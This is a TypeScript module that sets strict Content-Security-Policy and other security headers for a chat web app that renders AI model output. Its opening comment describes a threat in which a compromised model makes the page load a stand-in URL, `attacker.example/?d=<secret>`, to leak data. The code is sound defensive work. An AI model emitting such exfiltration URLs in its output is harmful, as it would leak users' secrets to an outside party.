/**
 * Response headers that keep the owner's browser from talking to anyone but
 * this origin. The chat renders model output; a compromised model will try to
 * make the page load `https://attacker.example/?d=<secret>`. The renderer
 * already turns remote images into links (src/web/sanitize.ts); the CSP makes
 * the browser refuse such loads even if the renderer missed one.
 *
 * Two places send these headers, from this one definition:
 * - the Worker, on everything it answers (/api/*, /agent*): `withSecurityHeaders`
 *   around the handler in src/server.ts;
 * - the static assets layer, which serves the app's HTML and bundles without
 *   running the Worker (wrangler.jsonc `assets`): the build writes a `_headers`
 *   file into dist/client (vite.config.ts). Workers static assets apply
 *   `_headers` both in `wrangler dev` and in production, and it keeps every
 *   asset request off the Worker (which `run_worker_first: true` would not).
 *
 * This file is imported by the Worker and by vite.config.ts (Node): plain
 * Fetch API types only.
 */

/**
 * No inline script, nothing from other origins. React's `style={…}` props are
 * set through the CSSOM, which `style-src` does not govern; the Vite build has
 * no inline <style> or <script>. `connect-src 'self'` covers the app's
 * WebSocket to its own host (CSP Level 3: 'self' matches ws:/wss: on the same
 * host and port; Chromium implements it, and the e2e test runs the chat over it).
 */
export const CONTENT_SECURITY_POLICY = [
  "default-src 'self'",
  "script-src 'self'",
  "style-src 'self'",
  "img-src 'self' data: blob:",
  "media-src 'self' data: blob:",
  "connect-src 'self'",
  "font-src 'self'",
  "object-src 'none'",
  "base-uri 'none'",
  "form-action 'self'",
  "frame-ancestors 'none'"
].join("; ");

export const SECURITY_HEADERS: Readonly<Record<string, string>> = {
  "Content-Security-Policy": CONTENT_SECURITY_POLICY,
  // A link the owner opens tells the other site nothing about where it came from.
  "Referrer-Policy": "no-referrer",
  "X-Content-Type-Options": "nosniff",
  // frame-ancestors for browsers that predate it.
  "X-Frame-Options": "DENY"
};

/**
 * The response with the security headers added. A header the response already
 * sets wins: /api/files sends a stricter, sandboxing CSP for workspace files.
 * WebSocket upgrades (101) pass through untouched: nothing renders them, and
 * the Workers runtime keeps the socket only on the original response.
 */
export function secureResponse(response: Response): Response {
  if (response.status === 101) return response;
  const secured = new Response(response.body, response);
  for (const [name, value] of Object.entries(SECURITY_HEADERS)) {
    if (!secured.headers.has(name)) secured.headers.set(name, value);
  }
  return secured;
}

type FetchHandler = { fetch(...args: never[]): Response | Promise<Response> };

/** The Worker's handler with `secureResponse` on everything its `fetch` answers; other handlers (email) unchanged. */
export function withSecurityHeaders<H extends FetchHandler>(handler: H): H {
  const fetch = handler.fetch.bind(handler) as (...args: Parameters<H["fetch"]>) => Response | Promise<Response>;
  return { ...handler, fetch: async (...args: Parameters<H["fetch"]>) => secureResponse(await fetch(...args)) };
}

/** The `_headers` file for the static assets layer: the same headers on every path. */
export function staticHeadersFile(): string {
  return ["/*", ...Object.entries(SECURITY_HEADERS).map(([name, value]) => `  ${name}: ${value}`), ""].join("\n");
}
